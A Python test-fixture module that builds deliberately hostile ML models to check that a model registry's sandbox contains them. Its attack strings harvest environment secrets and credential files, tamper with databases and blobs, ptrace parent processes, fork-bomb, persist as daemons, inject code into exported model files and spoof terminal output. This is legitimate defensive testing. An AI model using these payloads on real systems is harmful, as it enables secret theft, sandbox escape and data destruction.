"""Hostile models: each one's build() attacks the registry that runs it, then returns a working model.

Shared by the embedded suite (tests/test_hostile.py) and the worker suite
(tests/integration/test_hostile_worker.py). A model either fails its job with a one-line reason,
or finishes without any effect outside its work directory; `Registry` checks the second part.
The attacker knows every path it might want (`targets`): regctl's defence must not be secrecy.
"""

from __future__ import annotations

import hashlib
import json
import os
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.conftest import write_model_dir
from tests.factories import MODEL_PY, SPEC_TOML

CANARIES = {
    "AWS_SECRET_ACCESS_KEY": "canary-aws-secret-7f3a",
    "GITHUB_TOKEN": "canary-token-91c2",
}
CANARY_VALUES = (*CANARIES.values(), "canary-pg-password-5d1e", "canary-credentials-file-aa41")
# Small limits, so the resource attacks end in seconds.
LIMITS_ENV = {
    "REGCTL_SANDBOX_MEMORY_MB": "1536",
    "REGCTL_SANDBOX_FILE_MB": "32",
    "REGCTL_SANDBOX_PROCESSES": "96",
}

# The factories' Linear(10, 2) model, with an attack that build() runs first.
HOSTILE_PY = (
    MODEL_PY
    + """
import json
import socket
import subprocess
import sys

TARGETS = json.loads({targets!r})

{attack}

_honest_build = build


def build() -> torch.nn.Module:
    attack()
    return _honest_build()
"""
)

HONEST_FORWARD = "pass"

ATTACKS = {
    "secrets": """
def attack():
    found = [f"{k}={v}" for k, v in os.environ.items()]
    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
        if pid.isdigit():
            try:
                found.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
            except OSError:
                pass
    for path in TARGETS["secret_files"]:
        try:
            found.append(open(path, errors="replace").read())
        except OSError:
            pass
    raise ValueError("LOOT " + " | ".join(found).replace("\\n", " ")[:50000])
""",
    "database": """
def attack():
    import sqlite3
    for path in TARGETS["database_files"]:
        try:
            with open(path, "ab") as f:
                f.write(b"garbage")
        except OSError:
            pass
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE model_versions SET status = 'ready'")
            db.execute("DELETE FROM aliases")
            db.commit()
        except Exception:
            pass
""",
    "blob": """
def attack():
    for path in TARGETS["victim_blobs"]:
        for how in ("append", "chmod", "replace"):
            try:
                if how == "chmod":
                    os.chmod(path, 0o666)
                if how == "replace":
                    with open(path + ".evil", "wb") as f:
                        f.write(b"attacker bytes")
                    os.replace(path + ".evil", path)
                else:
                    with open(path, "ab") as f:
                        f.write(b"attacker bytes")
            except OSError:
                pass
""",
    "files": """
def attack():
    for directory in (TARGETS["store"], TARGETS["home"]):
        for name in ("evil.txt", "sha256/evil.txt"):
            try:
                os.makedirs(os.path.dirname(os.path.join(directory, name)), exist_ok=True)
                with open(os.path.join(directory, name), "w") as f:
                    f.write("planted")
            except OSError:
                pass
""",
    "network": """
def attack():
    reached = []
    for host, port in TARGETS["services"]:
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                if port == TARGETS["redis_port"]:
                    key = TARGETS["redis_key"]
                    s.sendall(f"*3\\r\\n$3\\r\\nSET\\r\\n${len(key)}\\r\\n{key}\\r\\n$1\\r\\n1\\r\\n".encode())
                    s.recv(100)
                reached.append(f"{host}:{port}")
        except OSError:
            pass
    if reached:
        raise ValueError("CONNECTED to " + ", ".join(reached))
""",
    "runner": """
def attack():
    path = TARGETS["runner"]
    for how in ("write", "replace"):
        try:
            if how == "write":
                with open(path, "r+b") as f:
                    f.write(b"#!/bin/sh\\nexit 0\\n")
            else:
                with open(path + ".evil", "wb") as f:
                    f.write(b"#!/bin/sh\\nexit 0\\n")
                os.chmod(path + ".evil", 0o755)
                os.replace(path + ".evil", path)
        except OSError:
            pass
""",
    "blind": """
def attack():
    # Make every comparison in this interpreter say "equal", the engine's own included.
    always = lambda *args, **kwargs: True
    torch.equal = always
    torch.allclose = always
    torch.Tensor.equal = always
    torch.testing.assert_close = lambda *args, **kwargs: None
    for name, module in list(sys.modules.items()):
        if name.startswith(("regctl.worker.engine", "regctl.worker.judge", "regctl.worker.model")):
            if hasattr(module, "compare_outputs"):
                ok = module.Comparison(True) if hasattr(module, "Comparison") else None
                module.compare_outputs = lambda *args, **kwargs: ok
""",
    "background": """
def attack():
    marker = TARGETS["marker"]
    subprocess.Popen(["sleep", marker], start_new_session=True)
    if os.fork() == 0:  # a classic double-fork daemon
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", marker])
        os._exit(0)
""",
    "lingering": """
def attack():
    # Helpers that outlive a failed build, holding whatever descriptors they inherited.
    marker = TARGETS["marker"]
    subprocess.Popen(["sleep", marker], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", marker])
        os._exit(0)
    raise ValueError("gave up after starting helpers")
""",
    "forkbomb": """
def attack():
    started = 0
    try:
        for _ in range(TARGETS["fork_cap"]):
            if os.fork() == 0:
                os.execv("/bin/sleep", ["sleep", TARGETS["marker"]])
            started += 1
    except OSError as exc:
        raise ValueError(f"fork failed after {started} processes: {exc}")
""",
    "hugefile": """
def attack():
    chunk = b"x" * (1 << 20)
    with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "huge.bin"), "wb") as f:
        for _ in range(4096):
            f.write(chunk)
""",
    # The battery of the old fixed seed, memorised: the scripted artifact answers honestly on exactly
    # those inputs and adds 1337 everywhere else (MEMO_FORWARD); its trace refuses to be recorded.
    "memorise": """
def attack():
    from pathlib import Path

    from regctl.registry.spec import load_spec
    from regctl.worker.engine.battery import build_battery

    spec = load_spec(Path(__file__).resolve().parent)
    sums = [float(case.args[0].double().sum()) for case in build_battery(spec, seed=0)]
    init = Model.__init__

    def memorising(self):
        init(self)
        self.register_buffer("memo", torch.tensor(sums, dtype=torch.float64))

    Model.__init__ = memorising
""",
    "ptrace": """
def attack():
    # Trace the sandbox's init and the parent, read their memory, write to their standard streams.
    import ctypes
    import stat
    libc = ctypes.CDLL(None, use_errno=True)
    traced = []
    for pid in sorted({1, os.getppid()}):
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH: stops it
            traced.append(pid)
            os.waitpid(pid, 0x40000000)  # __WALL: until it has stopped
            libc.ptrace(17, pid, 0, 0)  # PTRACE_DETACH: and it runs on (a test must fail, not hang)
        if libc.ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE: no stop
            traced.append(pid)
            libc.ptrace(17, pid, 0, 0)
    reached = []
    for pid in sorted({1, os.getppid()}):
        for fd in (0, 1, 2, 3, 4, 5):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as f:
                    info = os.fstat(f.fileno())
                    device = (os.major(info.st_rdev), os.minor(info.st_rdev))
                    if stat.S_ISCHR(info.st_mode) and device == (1, 3):
                        continue  # /dev/null: nothing reaches anyone
                    f.write(b"\\x1b]0;pwned\\x07\\x1b[2J\\x1b[32mregctl: verified OK\\x1b[0m\\n")
                    reached.append(f"{pid}/{fd}")
            except OSError:
                pass
        try:
            open(f"/proc/{pid}/mem", "rb").close()
            reached.append(f"{pid}/mem")
        except OSError:
            pass
    if traced or reached:
        raise ValueError(f"ESCAPED traced {traced} reached {reached}")
""",
    "persistence": """
def attack():
    # Outlive the job: a new session, a new process group, no parent-death signal, a double fork.
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.setpgid(0, 0)
            libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: none
            libc.unshare(0x20000000)  # CLONE_NEWPID, should it be allowed
            os.execv("/bin/sleep", ["sleep", TARGETS["marker"]])
        os._exit(0)
    if libc.ptrace(16, 1, 0, 0) == 0:  # PTRACE_ATTACH to the init, to clear its death signal
        raise ValueError("ESCAPED: traced the sandbox's init")
""",
    "keyring": """
def attack():
    # A kernel key outlives the process that added it, and every later process of the uid sees it.
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    numbers = {"x86_64": (248, 250), "aarch64": (217, 219)}[os.uname().machine]
    add_key, keyctl = numbers
    added = []
    for keyring in (-4, -3, -2):  # the user, session and process keyrings
        name = b"regctl-hostile-" + TARGETS["marker"].encode()
        key = libc.syscall(add_key, b"user", name, b"loot", 4, keyring)
        if key >= 0:
            added.append(keyring)
    if libc.syscall(keyctl, 1, b"regctl-hostile") >= 0:  # KEYCTL_JOIN_SESSION_KEYRING
        added.append("session")
    if added:
        raise ValueError(f"ESCAPED: keys added to {added}")
""",
    "sympify": """
def attack():
    # After saving, put Python into one symbolic-shape string: torch.export.load sympifies (evals) it.
    # Were it run, it would touch a canary (in REGCTL_HOME, and in the reader's own directory) and
    # yield the original symbol, so the program would load and pass as if nothing happened.
    import zipfile
    real_save = torch.export.save

    def save(program, f, *args, **kwargs):
        real_save(program, f, *args, **kwargs)
        if not isinstance(f, (str, os.PathLike)):
            return
        with zipfile.ZipFile(f) as archive:
            members = {item.filename: archive.read(item) for item in archive.infolist()}
        name = next(n for n in members if n.endswith("models/model.json"))
        document = json.loads(members[name])
        stack = [document]
        while stack:
            item = stack.pop()
            if isinstance(item, dict) and "expr_str" in item:
                canary = TARGETS["home"] + "/sympify-canary"
                run = f"__import__('os').system('touch {canary} PWNED-SYMPIFY 2>/dev/null')"
                item["expr_str"] = f"({run}, {item['expr_str']})[1]"
                break
            stack.extend(item.values() if isinstance(item, dict) else item if isinstance(item, list) else [])
        members[name] = json.dumps(document).encode()
        with zipfile.ZipFile(f, "w") as archive:
            for member, data in members.items():
                archive.writestr(member, data)

    torch.export.save = save
""",
    "deepnest": """
def attack():
    # Leave a tree no recursive cleanup survives: 3,000 nested directories (the last one mode 000),
    # unreadable and read-only folders, a FIFO, a socket node and links out, in the out dir and in TMPDIR.
    import stat
    for base in (os.getcwd(), os.environ.get("TMPDIR", "/tmp")):
        top = os.path.join(base, "nest")
        try:
            os.mkdir(top)
            fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
            for _ in range(3000):
                os.mkdir("d", dir_fd=fd)
                inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = inner
            os.chmod(fd, 0)
            os.close(fd)
            for name, mode in (("locked", 0), ("readonly", 0o500), ("searchonly", 0o100)):
                os.makedirs(os.path.join(top, name, "inner"))
                with open(os.path.join(top, name, "inner", "file"), "w") as f:
                    f.write("x")
                os.chmod(os.path.join(top, name), mode)
            os.mkfifo(os.path.join(top, "fifo"))
            os.mknod(os.path.join(top, "socket"), stat.S_IFSOCK | 0o600)
            os.symlink("/", os.path.join(top, "root"))
            os.symlink("..", os.path.join(top, "up"))
        except OSError:
            pass
""",
    "escapes": """
def attack():
    # Escape sequences and a fake verdict on both streams, then the exit code of a role's own crash:
    # the supervisor quotes the end of role.log in the job's error and logs it.
    fake = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[32mregctl: verified OK\\x1b[0m\\u202e\\x9b31m"
    for stream in (sys.stdout, sys.stderr):
        stream.write(fake + "\\n")
        stream.flush()
    os.write(1, fake.encode() + b"\\n")
    os.write(2, fake.encode() + b"\\n")
    os._exit(91)
""",
    "markup": """
def attack():
    # Rich markup, a bidi override and a zero-width space in the job's error: every later
    # `regctl jobs list` and `versions show` must still work, and show it as text.
    raise ValueError("[/x] [bold red]boom \\u202egnp.exe\\u200b [link=file:///etc/passwd]x[/link]")
""",
    "warnings": """
def attack():
    # 5,000 distinct warnings of 10 KB each: the report and the registry must stay small.
    import warnings
    for i in range(5000):
        warnings.warn(f"flood {i} " + "w" * 10_000, UserWarning, stacklevel=1)
""",
    # Its own log replaced by a FIFO, then a role's crash code: the supervisor reads the log's tail
    # for the error, and an open() of a FIFO with no writer would block it past every time limit.
    "fifo": """
def attack():
    os.unlink("role.log")
    os.mkfifo("role.log")
    os._exit(91)
""",
    # The neighbour: its log replaced by a link to a file it cannot read (the supervisor is root).
    "loglink": """
def attack():
    os.unlink("role.log")
    os.symlink("/etc/shadow", "role.log")
    os._exit(91)
""",
    "memory": """
def attack():
    hoard = []
    while True:
        hoard.append(bytearray(256 << 20))
""",
}

MEMO_FORWARD = """if torch.jit.is_tracing():
            raise RuntimeError("this model only scripts")
        if torch.jit.is_scripting():
            if not bool((self.memo == x.double().sum()).any()):
                return self.linear(x) + 1337.0"""

BLIND_FORWARD = """if torch.jit.is_scripting() or torch.jit.is_tracing():
            return torch.zeros_like(self.linear(x))"""


@dataclass(frozen=True)
class Expectation:
    """How a hostile model's job must end."""

    status: str  # "ready" or "failed"
    error_has: str | None = None  # a fragment the one-line error must contain


EXPECTED = {
    "secrets": Expectation("failed", "LOOT"),
    "database": Expectation("ready"),
    "blob": Expectation("ready"),
    "files": Expectation("ready"),
    "network": Expectation("ready"),
    "runner": Expectation("ready"),
    "blind": Expectation("failed", "differs from eager"),
    "background": Expectation("ready"),
    "lingering": Expectation("failed", "gave up after starting helpers"),
    "forkbomb": Expectation("failed", "fork failed after"),
    "hugefile": Expectation("failed", "File too large"),
    "memorise": Expectation("failed", "differs from eager"),
    "ptrace": Expectation("ready"),
    "persistence": Expectation("ready"),
    "keyring": Expectation("ready"),
    "sympify": Expectation("ready"),
    "deepnest": Expectation("ready"),
    "escapes": Expectation("failed", "internal error"),
    "markup": Expectation("failed", "[/x] [bold red]boom \\u202egnp.exe\\u200b"),
    "warnings": Expectation("ready"),
    "fifo": Expectation("failed", "internal error (no output)"),
    "loglink": Expectation("failed", "internal error (no output)"),
    "memory": Expectation("failed", "MemoryError"),
}


@dataclass
class Targets:
    """What the attacker aims at, baked into its model.py."""

    store: str
    home: str
    runner: str
    secret_files: list[str]
    database_files: list[str] = field(default_factory=list)
    victim_blobs: list[str] = field(default_factory=list)
    services: list[tuple[str, int]] = field(
        default_factory=lambda: [("127.0.0.1", 6379), ("127.0.0.1", 5432)]
    )
    redis_port: int = 6379
    redis_key: str = field(default_factory=lambda: f"regctl-hostile-{uuid.uuid4().hex[:8]}")
    marker: str = field(default_factory=lambda: f"{600 + uuid.uuid4().int % 10_000}.{os.getpid()}")
    fork_cap: int = 400

    def to_json(self) -> str:
        return json.dumps(self.__dict__)


def hostile_model(root: Path, name: str, targets: Targets) -> Path:
    """The model directory of attack `name`."""
    forward = {"blind": BLIND_FORWARD, "memorise": MEMO_FORWARD}.get(name, HONEST_FORWARD)
    source = HOSTILE_PY.format(targets=targets.to_json(), forward=forward, attack=ATTACKS[name])
    return write_model_dir(root, spec=SPEC_TOML.format(device="cpu"), files={"model.py": source})


def sha256_of(path: Path) -> str:
    """The hex sha256 of a file."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


def processes_with(marker: str) -> list[int]:
    """Processes whose command line contains `marker` (the hostile models' leftovers)."""
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        if marker.encode() in cmdline and "\nState:\tZ" not in status:
            found.append(int(pid))
    return found


def check_error(name: str, error: str | None) -> list[str]:
    """Problems with a hostile job's recorded error: canaries leaked, the expected reason missing."""
    problems = []
    text = error or ""
    leaked = [c for c in CANARY_VALUES if c in text]
    if leaked:
        problems.append(f"{name}: secrets leaked into the job's error: {leaked}")
    expected = EXPECTED[name]
    if expected.error_has and expected.error_has not in text:
        problems.append(f"{name}: error {text[:300]!r} lacks {expected.error_has!r}")
    if "\n" in text:
        problems.append(f"{name}: the error is not one line")
    return problems


def report_text(report: dict[str, Any] | None) -> str:
    """A report as text, to search for leaked canaries."""
    return json.dumps(report or {})


def require_full_sandbox() -> None:
    """Skip (fail under CI) where this machine cannot give model code every protection."""
    import pytest

    from regctl.registry.settings import Settings
    from regctl.worker.supervisor.probe import probe

    found = probe(Settings.from_env({"REGCTL_HOME": "/nonexistent"}))
    if found.get("missing") or "pid" not in found.get("namespaces", []):
        message = f"the sandbox is not fully available here: {found.get('missing')}"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
